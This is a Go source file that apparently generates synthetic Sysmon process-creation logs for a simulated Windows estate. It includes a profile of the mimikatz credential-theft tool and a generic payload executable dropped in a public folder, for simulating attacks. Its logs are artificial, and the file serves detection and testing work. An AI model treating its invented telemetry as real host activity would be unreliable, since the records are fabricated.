package winmix

import "strings"

// acct is the account a process runs as, relative to its host.
type acct uint8

const (
	acInherit  acct = iota // the parent's
	acSystem               // NT AUTHORITY\SYSTEM
	acLocalSvc             // NT AUTHORITY\LOCAL SERVICE
	acNetSvc               // NT AUTHORITY\NETWORK SERVICE
	acUser                 // the interactive user, medium integrity
	acAdmin                // the interactive user, elevated
	acPool                 // the IIS application pool identity
)

// exe is an executable: its path (a template, for per-user installs), PE
// version info as Sysmon reports it, and for a process first seen mid-life,
// its usual parent, account and command line.
type exe struct {
	path                              string
	ver, desc, product, company, orig string // "" is printed as "-"
	parent                            string // exe key
	acct                              acct
	il                                string // integrity level when not the account's
	cmd                               string // template; "" means "«img»" quoted
	cwd                               string
}

const (
	msCorp    = "Microsoft Corporation"
	winProd   = "Microsoft® Windows® Operating System"
	winVer    = "«winver» (WinBuild.160101.0800)"
	sys32     = `C:\Windows\System32\`
	chromeDir = `C:\Program Files\Google\Chrome\Application\`
	edgeDir   = `C:\Program Files (x86)\Microsoft\Edge\Application\`
	officeDir = `C:\Program Files\Microsoft Office\root\Office16\`
	defDir    = `C:\ProgramData\Microsoft\Windows Defender\Platform\«defver»\`
	psPath    = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
)

// win describes a Windows binary: Microsoft's version info, the host's build.
func win(path, desc, orig, parent string, a acct, cmd string) *exe {
	return &exe{path: path, ver: winVer, desc: desc, product: winProd, company: msCorp, orig: orig,
		parent: parent, acct: a, cmd: cmd}
}

// app describes a third-party or Office binary.
func app(path, ver, desc, product, company, orig, parent string, a acct, cmd string) *exe {
	return &exe{path: path, ver: ver, desc: desc, product: product, company: company, orig: orig,
		parent: parent, acct: a, cmd: cmd}
}

func svchost(cmd string, a acct) *exe {
	return win(sys32+"svchost.exe", "Host Process for Windows Services", "svchost.exe", "services", a, cmd)
}

// exes maps exe keys to executables. A key "name:variant" (a browser's
// renderer, a second svchost group) uses exes["name:variant"] if present,
// else exes["name"]: same binary, another role.
var exes = map[string]*exe{
	"system":   {path: "System", acct: acSystem, cmd: "-"},
	"smss":     win(sys32+"smss.exe", "Windows Session Manager", "smss.exe", "system", acSystem, `\SystemRoot\System32\smss.exe`),
	"wininit":  win(sys32+"wininit.exe", "Windows Start-Up Application", "wininit.exe", "smss", acSystem, "wininit.exe"),
	"winlogon": win(sys32+"winlogon.exe", "Windows Logon Application", "WINLOGON.EXE", "smss", acSystem, "winlogon.exe"),
	"services": win(sys32+"services.exe", "Services and Controller app", "services.exe", "wininit", acSystem, `C:\Windows\system32\services.exe`),
	"lsass":    win(sys32+"lsass.exe", "Local Security Authority Process", "lsass.exe", "wininit", acSystem, `C:\Windows\system32\lsass.exe`),
	"userinit": win(sys32+"userinit.exe", "Userinit Logon Application", "USERINIT.EXE", "winlogon", acUser, `C:\Windows\system32\userinit.exe`),
	"explorer": win(`C:\Windows\explorer.exe`, "Windows Explorer", "EXPLORER.EXE", "userinit", acUser, `C:\Windows\Explorer.EXE`),

	"svchost":         svchost(`C:\Windows\system32\svchost.exe -k netsvcs -p`, acSystem),
	"svchost:sched":   svchost(`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, acSystem),
	"svchost:dcom":    svchost(`C:\Windows\system32\svchost.exe -k DcomLaunch -p`, acSystem),
	"svchost:appinfo": svchost(`C:\Windows\system32\svchost.exe -k netsvcs -p -s Appinfo`, acSystem),
	"svchost:iis":     svchost(`C:\Windows\system32\svchost.exe -k iissvcs`, acSystem),
	"svchost:dns":     svchost(`C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache`, acNetSvc),
	"svchost:wu":      svchost(`C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv`, acSystem),
	"svchost:do":      svchost(`C:\Windows\System32\svchost.exe -k NetworkService -p -s DoSvc`, acNetSvc),
	"svchost:bam":     svchost(`C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain`, acSystem),
	"svchost:user":    svchost(`C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_«x:5»`, acUser),

	"msmpeng":  {path: defDir + "MsMpEng.exe", ver: "4.18.25010.11 (WinBuild.160101.0800)", desc: "Antimalware Service Executable", product: winProd, company: msCorp, orig: "MsMpEng.exe", parent: "services", acct: acSystem, cmd: `"«img»"`},
	"mpcmdrun": {path: defDir + "MpCmdRun.exe", ver: "4.18.25010.11 (WinBuild.160101.0800)", desc: "Microsoft Malware Protection Command Line Utility", product: winProd, company: msCorp, orig: "MpCmdRun.exe", parent: "msmpeng", acct: acSystem},
	"nissrv":   {path: defDir + "NisSrv.exe", ver: "4.18.25010.11 (WinBuild.160101.0800)", desc: "Microsoft Network Realtime Inspection Service", product: winProd, company: msCorp, orig: "NisSrv.exe", parent: "services", acct: acLocalSvc},

	"searchindexer":      win(sys32+"SearchIndexer.exe", "Microsoft Windows Search Indexer", "SearchIndexer.exe", "services", acSystem, `C:\Windows\system32\SearchIndexer.exe /Embedding`),
	"searchprotocolhost": win(sys32+"SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe", "searchindexer", acSystem, ""),
	"searchfilterhost":   win(sys32+"SearchFilterHost.exe", "Microsoft Windows Search Filter Host", "SearchFilterHost.exe", "searchindexer", acSystem, ""),
	"spoolsv":            win(sys32+"spoolsv.exe", "Spooler SubSystem App", "spoolsv.exe", "services", acSystem, `C:\Windows\System32\spoolsv.exe`),
	"wmiprvse":           win(sys32+`wbem\WmiPrvSE.exe`, "WMI Provider Host", "Wmiprvse.exe", "svchost:dcom", acNetSvc, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`),
	"dllhost":            win(sys32+"dllhost.exe", "COM Surrogate", "dllhost.exe", "svchost:dcom", acUser, ""),
	"runtimebroker":      win(sys32+"RuntimeBroker.exe", "Runtime Broker", "RuntimeBroker.exe", "svchost:dcom", acUser, `C:\Windows\System32\RuntimeBroker.exe -Embedding`),
	"taskhostw":          win(sys32+"taskhostw.exe", "Host Process for Windows Tasks", "taskhostw.exe", "svchost:sched", acUser, "taskhostw.exe"),
	"sihost":             win(sys32+"sihost.exe", "Shell Infrastructure Host", "sihost.exe", "svchost:user", acUser, "sihost.exe"),
	"ctfmon":             win(sys32+"ctfmon.exe", "CTF Loader", "CTFMON.EXE", "svchost:user", acUser, `"ctfmon.exe"`),
	"backgroundtaskhost": win(sys32+"backgroundTaskHost.exe", "Background Task Host", "backgroundTaskHost.exe", "svchost:dcom", acUser, ""),
	"smartscreen":        win(sys32+"smartscreen.exe", "Windows Defender SmartScreen", "smartscreen.exe", "svchost:dcom", acUser, ""),
	"conhost":            win(sys32+"conhost.exe", "Console Window Host", "CONHOST.EXE", "cmd", acInherit, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`),
	"cmd":                win(sys32+"cmd.exe", "Windows Command Processor", "Cmd.Exe", "explorer", acInherit, `"C:\Windows\system32\cmd.exe" `),
	"powershell":         win(psPath, "Windows PowerShell", "PowerShell.EXE", "explorer", acInherit, `"`+psPath+`" `),
	"rundll32":           win(sys32+"rundll32.exe", "Windows host process (Rundll32)", "RUNDLL32.EXE", "explorer", acInherit, ""),
	"werfault":           win(sys32+"WerFault.exe", "Windows Problem Reporting", "WerFault.exe", "svchost", acInherit, ""),
	"wermgr":             win(sys32+"wermgr.exe", "Windows Problem Reporting", "wermgr.exe", "svchost:sched", acSystem, ""),
	"consent":            win(sys32+"consent.exe", "Consent UI for administrative applications", "consent.exe", "svchost:appinfo", acSystem, ""),
	"mousocoreworker":    win(sys32+"MoUsoCoreWorker.exe", "MoUSO Core Worker Process", "MoUsoCoreWorker.exe", "svchost:dcom", acSystem, ""),
	"tiworker":           win(`C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_«winver»_none_4cc6ea8a1d9e6d0c\TiWorker.exe`, "Windows Modules Installer Worker", "TiWorker.exe", "svchost:dcom", acSystem, ""),
	"compattelrunner":    win(sys32+"CompatTelRunner.exe", "Microsoft Compatibility Telemetry", "CompatTelRunner.exe", "svchost:sched", acSystem, ""),
	"wsmprovhost":        win(sys32+"wsmprovhost.exe", "Host process for WinRM plug-ins", "wsmprovhost.exe", "svchost:dcom", acAdmin, ""),
	"w3wp":               win(sys32+`inetsrv\w3wp.exe`, "IIS Worker Process", "w3wp.exe", "svchost:iis", acPool, `c:\windows\system32\inetsrv\w3wp.exe -ap "«pool»" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm«g» -h "C:\inetpub\temp\apppools\«pool»\«pool».config" -w "" -m 0`),
	"dns":                win(sys32+"dns.exe", "Domain Name System (DNS) Server", "dns.exe", "services", acSystem, `C:\Windows\system32\dns.exe`),
	"dfsrs":              win(sys32+"dfsrs.exe", "Distributed File System Replication", "DFSRs.exe", "services", acSystem, `C:\Windows\system32\DFSRs.exe`),
	"msiexec":            win(sys32+"msiexec.exe", "Windows® installer", "msiexec.exe", "services", acSystem, `C:\Windows\system32\msiexec.exe /V`),
	"mmc":                win(sys32+"mmc.exe", "Microsoft Management Console", "MMC.EXE", "explorer", acAdmin, ""),
	"taskmgr":            win(sys32+"Taskmgr.exe", "Task Manager", "Taskmgr.exe", "explorer", acAdmin, ""),
	"notepad":            win(sys32+"notepad.exe", "Notepad", "NOTEPAD.EXE", "explorer", acUser, ""),
	"ipconfig":           win(sys32+"ipconfig.exe", "IP Configuration Utility", "ipconfig.exe", "cmd", acInherit, ""),
	"ping":               win(sys32+"PING.EXE", "TCP/IP Ping Command", "ping.exe", "cmd", acInherit, ""),
	"net":                win(sys32+"net.exe", "Net Command", "net.exe", "cmd", acInherit, ""),
	"tasklist":           win(sys32+"tasklist.exe", "Lists the current running tasks", "tasklist.exe", "cmd", acInherit, ""),
	"sc":                 win(sys32+"sc.exe", "Service Control Manager Configuration Tool", "sc.exe", "cmd", acInherit, ""),
	"robocopy":           win(sys32+"Robocopy.exe", "Microsoft Robocopy", "robocopy.exe", "cmd", acInherit, ""),
	"gpupdate":           win(sys32+"gpupdate.exe", "Microsoft® Windows® Operating System Group Policy Update Utility", "GPUpdate.exe", "cmd", acInherit, ""),
	"reg":                win(sys32+"reg.exe", "Registry Console Tool", "reg.exe", "cmd", acInherit, ""),
	"whoami":             win(sys32+"whoami.exe", "whoami - displays logged on user information", "whoami.exe", "cmd", acInherit, ""),
	"vssadmin":           win(sys32+"vssadmin.exe", "Command Line Interface for Microsoft® Volume Shadow Copy Service ", "VSSADMIN.EXE", "cmd", acInherit, ""),
	"certutil":           win(sys32+"certutil.exe", "CertUtil.exe", "CertUtil.exe", "cmd", acInherit, ""),
	"mshta":              win(sys32+"mshta.exe", "Microsoft (R) HTML Application host", "MSHTA.EXE", "explorer", acInherit, ""),
	"regsvr32":           win(sys32+"regsvr32.exe", "Microsoft(C) Register Server", "REGSVR32.EXE", "cmd", acInherit, ""),
	"schtasks":           win(sys32+"schtasks.exe", "Task Scheduler Configuration Tool", "schtasks.exe", "cmd", acInherit, ""),
	"wevtutil":           win(sys32+"wevtutil.exe", "Eventing Command Line Utility", "wevtutil.exe", "cmd", acInherit, ""),
	"netsh":              win(sys32+"netsh.exe", "Network Command Shell", "netsh.exe", "cmd", acInherit, ""),
	"bcdedit":            win(sys32+"bcdedit.exe", "Boot Configuration Data Editor", "bcdedit.exe", "cmd", acInherit, ""),

	"chrome":          app(chromeDir+"chrome.exe", "«chrome»", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe", "explorer", acUser, `"«img»" `),
	"googleupdate":    app(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "1.3.36.452", "Google Installer", "Google Update", "Google LLC", "GoogleUpdate.exe", "svchost:sched", acSystem, ""),
	"msedge":          app(edgeDir+"msedge.exe", "«edge»", "Microsoft Edge", "Microsoft Edge", msCorp, "msedge.exe", "explorer", acUser, `"«img»" --no-startup-window --win-session-start`),
	"edgeupdate":      app(`C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, "1.3.199.29", "Microsoft Edge Update", "Microsoft Edge Update", msCorp, "msedgeupdate.dll", "svchost:sched", acSystem, ""),
	"webview2":        app(`C:\Program Files (x86)\Microsoft\EdgeWebView\Application\«edge»\msedgewebview2.exe`, "«edge»", "Microsoft Edge WebView2", "Microsoft Edge WebView2", msCorp, "msedgewebview2.exe", "teams", acInherit, ""),
	"teams":           app(`C:\Program Files\WindowsApps\MSTeams_«teams»_x64__8wekyb3d8bbwe\ms-teams.exe`, "«teams»", "Microsoft Teams", "Microsoft Teams", msCorp, "ms-teams.exe", "explorer", acUser, `"«img»" msteams:system-initiated`),
	"onedrive":        app(`C:\Users\«u»\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "«onedrive»", "Microsoft OneDrive", "Microsoft OneDrive", msCorp, "OneDrive.exe", "explorer", acUser, `"«img»" /background`),
	"onedriveupdater": app(`C:\Users\«u»\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, "«onedrive»", "Standalone Updater", "Microsoft OneDrive", msCorp, "OneDriveStandaloneUpdater.exe", "svchost:sched", acUser, ""),
	"filecoauth":      app(`C:\Users\«u»\AppData\Local\Microsoft\OneDrive\«onedrive»\FileCoAuth.exe`, "«onedrive»", "Microsoft OneDrive File Co-Authoring Executable", "Microsoft OneDrive", msCorp, "FileCoAuth.exe", "svchost:dcom", acUser, ""),
	"winword":         app(officeDir+"WINWORD.EXE", "«office»", "Microsoft Word", "Microsoft Office", msCorp, "WinWord.exe", "explorer", acUser, `"«img»" /n`),
	"excel":           app(officeDir+"EXCEL.EXE", "«office»", "Microsoft Excel", "Microsoft Office", msCorp, "Excel.exe", "explorer", acUser, `"«img»" `),
	"outlook":         app(officeDir+"OUTLOOK.EXE", "«office»", "Microsoft Outlook", "Microsoft Office", msCorp, "Outlook.exe", "explorer", acUser, `"«img»" `),
	"powerpnt":        app(officeDir+"POWERPNT.EXE", "«office»", "Microsoft PowerPoint", "Microsoft Office", msCorp, "POWERPNT.EXE", "explorer", acUser, `"«img»" `),
	"officec2r":       app(`C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe`, "«office»", "Microsoft Office Click-to-Run (SxS)", "Microsoft Office", msCorp, "OfficeClickToRun.exe", "services", acSystem, `"«img»" /service`),
	"acrobat":         app(`C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe`, "«acrobat»", "Adobe Acrobat", "Adobe Acrobat", "Adobe Inc.", "Acrobat.exe", "explorer", acUser, ""),
	"notepadpp":       app(`C:\Program Files\Notepad++\notepad++.exe`, "8.7.8", "Notepad++", "Notepad++", "Don HO don.h@free.fr", "notepad++.exe", "explorer", acUser, ""),
	"7zfm":            app(`C:\Program Files\7-Zip\7zFM.exe`, "24.09", "7-Zip File Manager", "7-Zip", "Igor Pavlov", "7zFM.exe", "explorer", acUser, ""),
	"vmtoolsd":        app(`C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, "12.5.0.24276", "VMware Tools Core Service", "VMware Tools", "Broadcom Inc.", "vmtoolsd.exe", "services", acSystem, `"«img»"`),

	// Malicious tools: no or fake version info, dropped in writable folders.
	"mimikatz": {path: `C:\Users\Public\mimikatz.exe`, ver: "2.2.0.0", desc: "mimikatz for Windows", product: "mimikatz", company: "gentilkiwi (Benjamin DELPY)", orig: "mimikatz.exe", parent: "cmd"},
	"payload":  {path: `C:\Users\Public\«payload».exe`, parent: "explorer", acct: acUser},
}

// exeFor returns the exe of a key, falling back from "name:variant" to "name".
func exeFor(key string) *exe {
	if e := exes[key]; e != nil {
		return e
	}
	base, _, _ := strings.Cut(key, ":")
	if e := exes[base]; e != nil {
		return e
	}
	panic("winmix: unknown exe key " + key)
}

// spawnT is a process creation: parent exe key, child exe key (the child
// replaces the parent's key's latest instance unless it has a :variant of
// its own), command line template, account and integrity level.
type spawnT struct {
	w      int
	on     roles
	parent string
	child  string
	cmd    string
	acct   acct
	il     string
	label  string // malicious pattern name
}

// Chromium command lines: long, and full of ids that change every time.
const (
	fieldTrial     = ` --field-trial-handle=«n:1000-2999»,i,«n:1-9»«d:18»,«n:1-9»«d:18»,262144`
	chromeRenderer = `"«img»" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=fr --device-scale-factor=1«|.25|.5|» --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=«n:5-400» --time-ticks-at-unix-epoch=-17«d:14» --launch-time-ticks=«n:100000000-9999999999» --metrics-shmem-handle=«n:1000-9999»,i,«n:1-9»«d:15»,«n:1-9»«d:15»,2097152` + fieldTrial + ` --variations-seed-version=20260227-180037.852000 --mojo-platform-channel-handle=«n:3000-9999» /prefetch:1`
	chromeUtility  = `"«img»" --type=utility --utility-sub-type=«|network.mojom.NetworkService|storage.mojom.StorageService|audio.mojom.AudioService|data_decoder.mojom.DataDecoderService|chrome.mojom.UtilWin» --lang=fr --service-sandbox-type=«|none|service|audio|utility» --string-annotations` + fieldTrial + ` --variations-seed-version --mojo-platform-channel-handle=«n:2000-9999» /prefetch:«|11|12|13|14»`
	chromeGPU      = `"«img»" --type=gpu-process --string-annotations --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAAAAAAAAAIAAAAAAAAAAgAAAAAAAAA --metrics-shmem-handle=«n:1000-9999»,i,«n:1-9»«d:15»,«n:1-9»«d:15»,262144` + fieldTrial + ` --variations-seed-version --mojo-platform-channel-handle=«n:1000-9999» /prefetch:2`
	crashpad       = `"«img»" --type=crashpad-handler "--user-data-dir=C:\Users\«u»\AppData\Local\«|Google\Chrome|Microsoft\Edge»\User Data" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "--database=C:\Users\«u»\AppData\Local\«|Google\Chrome|Microsoft\Edge»\User Data\Crashpad" --annotation=plat=Win64 --annotation=prod=«|Chrome|Edge» --initial-client-data=0x«x:3»,0x«x:3»,0x«x:3»,0x«x:3»,0x«x:3»,0x7ff«x:9»,0x7ff«x:9»,0x7ff«x:9»`
	webview2Cmd    = `"«img»" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --webview-exe-version=«teams» --user-data-dir="C:\Users\«u»\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --noerrdialogs --embedded-browser-webview-dpi-awareness=2 --enable-features=MojoIpcz,msWebView2CodeCache,msWebView2TreatAppSuspendAsDeviceSuspend --disable-features=BreakoutBoxPreferCaptureTimestampInVideoFrames --lang=fr --mojo-named-platform-channel-name=\\.\pipe\LOCAL\mojo.«n:1000-9999».«n:1000-9999».«d:19»`
	webview2Render = `"«img»" --type=renderer --noerrdialogs --user-data-dir="C:\Users\«u»\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --webview-exe-name=ms-teams.exe --webview-exe-version=«teams» --embedded-browser-webview=1 --embedded-browser-webview-dpi-awareness=2 --lang=fr --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=«n:5-60» --mojo-platform-channel-handle=«n:3000-9000»` + fieldTrial + ` /prefetch:1`
	svcSystem      = `C:\Windows\system32\svchost.exe -k «|netsvcs -p -s Schedule|netsvcs -p -s gpsvc|wsappx -p -s AppXSvc|netsvcs -p -s BITS|LocalSystemNetworkRestricted -p -s SysMain|netsvcs -p -s wuauserv|LocalSystemNetworkRestricted -p -s PcaSvc|appmodel -p -s StateRepository|netsvcs -p -s Appinfo|LocalSystemNetworkRestricted -p -s TrkWks|wusvcs -p -s WaaSMedicSvc|netsvcs -p -s UsoSvc|netsvcs -p -s lfsvc|netsvcs -p -s ProfSvc|DcomLaunch -p -s LSM|netsvcs -p -s Winmgmt»`
	svcLocal       = `C:\Windows\system32\svchost.exe -k «|LocalServiceNetworkRestricted -p -s lmhosts|LocalService -p -s FontCache|LocalServiceNoNetworkFirewall -p|LocalService -p -s WdiServiceHost|LocalServiceNetworkRestricted -p -s TimeBrokerSvc|LocalService -p -s BthAvctpSvc|LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc|LocalService -s W32Time»`
	svcNetwork     = `C:\Windows\system32\svchost.exe -k «|NetworkService -p -s DoSvc|NetworkService -p -s Dnscache|NetworkService -p -s LanmanWorkstation|NetworkService -p -s CryptSvc|NetworkService -p -s NlaSvc|NetworkServiceNetworkRestricted -p -s PolicyAgent»`
	ctxDocs        = `C:\Users\«u»\«|Documents|Downloads|Desktop|OneDrive - «org»\Documents»\`
)

// spawns are the benign process creations, weighted by how often they
// show up on a Sysmon-monitored estate: browsers' child processes and
// service hosts dominate, a user's own launches are rare.
var spawns = []spawnT{
	{w: 14, parent: "services", child: "svchost", cmd: svcSystem, acct: acSystem},
	{w: 6, parent: "services", child: "svchost", cmd: svcLocal, acct: acLocalSvc},
	{w: 5, parent: "services", child: "svchost", cmd: svcNetwork, acct: acNetSvc},
	{w: 3, on: rWS, parent: "services", child: "svchost:user", cmd: `C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s «|CDPUserSvc|WpnUserService|OneSyncSvc|cbdhsvc|UdkUserSvc»_«x:5»`, acct: acUser},

	{w: 30, on: rWS, parent: "chrome", child: "chrome:renderer", cmd: chromeRenderer, il: "Untrusted"},
	{w: 10, on: rWS, parent: "chrome", child: "chrome:utility", cmd: chromeUtility},
	{w: 2, on: rWS, parent: "chrome", child: "chrome:gpu", cmd: chromeGPU},
	{w: 1, on: rWS, parent: "chrome", child: "chrome:crashpad", cmd: crashpad},
	{w: 3, on: rWS, parent: "explorer", child: "chrome", cmd: `"«img»" «|--profile-directory=Default|--single-argument https://«site»/|--restore-last-session»`},
	{w: 24, on: rWS, parent: "msedge", child: "msedge:renderer", cmd: chromeRenderer, il: "Untrusted"},
	{w: 8, on: rWS, parent: "msedge", child: "msedge:utility", cmd: chromeUtility},
	{w: 2, on: rWS, parent: "msedge", child: "msedge:gpu", cmd: chromeGPU},
	{w: 1, on: rWS, parent: "msedge", child: "msedge:crashpad", cmd: crashpad},
	{w: 3, on: rWS, parent: "explorer", child: "msedge", cmd: `"«img»" «|--no-startup-window --win-session-start|--single-argument https://«site»/|»`},
	{w: 1, on: rSrv, parent: "explorer", child: "msedge", cmd: `"«img»" «|--single-argument https://«site»/|»`},
	{w: 3, on: rWS, parent: "teams", child: "webview2", cmd: webview2Cmd},
	{w: 8, on: rWS, parent: "webview2", child: "webview2:renderer", cmd: webview2Render, il: "Low"},
	{w: 1, on: rWS, parent: "explorer", child: "teams", cmd: `"«img»" msteams:system-initiated`},

	{w: 10, parent: "cmd", child: "conhost", cmd: `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`},
	{w: 5, parent: "powershell", child: "conhost", cmd: `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`},
	{w: 2, parent: "mpcmdrun", child: "conhost", cmd: `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`},
	{w: 2, on: rWS, parent: "explorer", child: "cmd", cmd: `"C:\Windows\system32\cmd.exe" `},
	{w: 2, on: rWS, parent: "userinit", child: "cmd", cmd: `C:\Windows\system32\cmd.exe /c ""\\«dns»\NETLOGON\netlogon.bat" "`},
	{w: 1, on: rSrv, parent: "svchost:sched", child: "cmd", cmd: `C:\Windows\system32\cmd.exe /c ""C:\Scripts\«|Sauvegarde|Purge_logs|Synchro_GED|Export_compta».cmd" "`, acct: acSystem},
	{w: 2, parent: "cmd", child: "ipconfig", cmd: `ipconfig  /«|all|flushdns|renew|displaydns»`},
	{w: 2, on: rWS, parent: "cmd", child: "ping", cmd: `ping  «|-n 4 |»«|«fs»|«dc».«dns»|8.8.8.8|«site»»`},
	{w: 1, on: rWS, parent: "cmd", child: "net", cmd: `net  use «|Z|S|T|P»: \\«fs»\«share» /persistent:yes`},
	{w: 1, on: rWS, parent: "cmd", child: "net", cmd: `net  time \\«dc» /set /y`},
	{w: 1, on: rWS, parent: "cmd", child: "gpupdate", cmd: `gpupdate  /force`},
	{w: 4, on: rSrv, parent: "cmd", child: "robocopy", cmd: `robocopy  «|D:\Partages|E:\Services|D:\Applis\GED» \\«fs»\Sauvegarde\«host» /MIR /R:2 /W:5 /NP /NDL /LOG+:C:\Scripts\Logs\robocopy_«date».log`},
	{w: 1, on: rSrv, parent: "cmd", child: "sc", cmd: `sc  query «|wuauserv|Spooler|W3SVC|MSSQLSERVER|WinDefend|DFSR»`},
	{w: 2, on: rWS, parent: "explorer", child: "powershell", cmd: `"` + psPath + `" `},
	{w: 1, on: rSrv, parent: "svchost:sched", child: "powershell", cmd: `"` + psPath + `" -NoProfile -NonInteractive -File "C:\Scripts\«|Nettoyage-Temp|Rapport-Quotas|Export-ADUsers|Verif-Services|Rotation-Logs».ps1"`, acct: acSystem},
	{w: 1, on: rSrv, parent: "explorer", child: "powershell", cmd: `"` + psPath + `" `, acct: acAdmin},

	{w: 3, on: rWS, parent: "explorer", child: "winword", cmd: `"«img»" /n "` + ctxDocs + `«docx»" /o ""`},
	{w: 3, on: rWS, parent: "explorer", child: "excel", cmd: `"«img»" "` + ctxDocs + `«xlsx»"`},
	{w: 1, on: rWS, parent: "explorer", child: "powerpnt", cmd: `"«img»" "` + ctxDocs + `Presentation_«|conseil|commission|projet»_«date».pptx"`},
	{w: 1, on: rWS, parent: "explorer", child: "outlook", cmd: `"«img»" `},
	{w: 2, on: rWS, parent: "explorer", child: "acrobat", cmd: `"«img»" "` + ctxDocs + `«pdf»"`},
	{w: 1, on: rWS, parent: "outlook", child: "acrobat", cmd: `"«img»" "C:\Users\«u»\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\«X:8»\«pdf»"`},
	{w: 1, on: rWS, parent: "explorer", child: "notepad", cmd: `"C:\Windows\system32\NOTEPAD.EXE" C:\Users\«u»\«|Documents|Desktop»\«|notes|a_faire|liste_courses|procedure_scan».txt`},
	{w: 1, on: rWS, parent: "explorer", child: "notepadpp", cmd: `"«img»" "` + ctxDocs + `«|export|config|log_«date»».«|csv|txt|xml»"`},
	{w: 1, on: rWS, parent: "explorer", child: "7zfm", cmd: `"«img»" "C:\Users\«u»\Downloads\«|Export_|Archives_|photos_»«a:6».zip"`},

	{w: 6, parent: "svchost:dcom", child: "wmiprvse", cmd: `C:\Windows\system32\wbem\wmiprvse.exe «|-secured -Embedding|-Embedding»`, acct: acNetSvc},
	{w: 2, parent: "svchost:dcom", child: "wmiprvse", cmd: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, acct: acSystem},
	{w: 5, on: rWS, parent: "svchost:sched", child: "taskhostw", cmd: `taskhostw.exe «|{222A245B-E637-4AE9-A93F-A59CA119A75E}|-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly|Install $(Arg0)|KEYROAMING|NGCKeyPregen»`, acct: acUser},
	{w: 1, on: rSrv, parent: "svchost:sched", child: "taskhostw", cmd: `taskhostw.exe «|SYSTEM|Install $(Arg0)»`, acct: acSystem},
	{w: 2, parent: "svchost:sched", child: "rundll32", cmd: `C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`, acct: acSystem},
	{w: 2, on: rWS, parent: "svchost:dcom", child: "rundll32", cmd: `C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`, acct: acUser},
	{w: 1, on: rWS, parent: "svchost:sched", child: "rundll32", cmd: `C:\Windows\system32\rundll32.exe C:\Windows\System32\Windows.Storage.ApplicationData.dll,CleanupTemporaryState`, acct: acUser},
	{w: 1, on: rWS, parent: "svchost:sched", child: "rundll32", cmd: `rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh`, acct: acUser},
	{w: 1, on: rWS, parent: "explorer", child: "rundll32", cmd: `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl,screensaver,@screensaver`},
	{w: 3, on: rWS, parent: "svchost:dcom", child: "backgroundtaskhost", cmd: `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:«|BackgroundTaskHost.WebAccountBackgroundTask|App.AppXnme9zjyebb2xnyygh6q9ev6p5d234br2.mca|Microsoft.Windows.Search_cw5n1h2txyewy.BackgroundTask|CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca»`},
	{w: 5, on: rWS, parent: "svchost:dcom", child: "runtimebroker", cmd: `C:\Windows\System32\RuntimeBroker.exe -Embedding`},
	{w: 5, parent: "svchost:dcom", child: "dllhost", cmd: `C:\Windows\system32\DllHost.exe /Processid:«|{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}|{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}|{3EB3C877-1F16-487C-9050-104DBCD66683}|{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}|{776DBC8D-7347-478C-8D71-791E12EF49D8}»`},
	{w: 4, parent: "searchindexer", child: "searchprotocolhost", cmd: `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe«n:1-99»_ Global\UsGthrCtrlFltPipeMssGthrPipe«n:1-99» 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" `},
	{w: 4, parent: "searchindexer", child: "searchfilterhost", cmd: `"C:\Windows\system32\SearchFilterHost.exe" 0 «n:700-900» «n:700-900» «n:700-900» 8192 «n:700-900» «n:700-900» `},
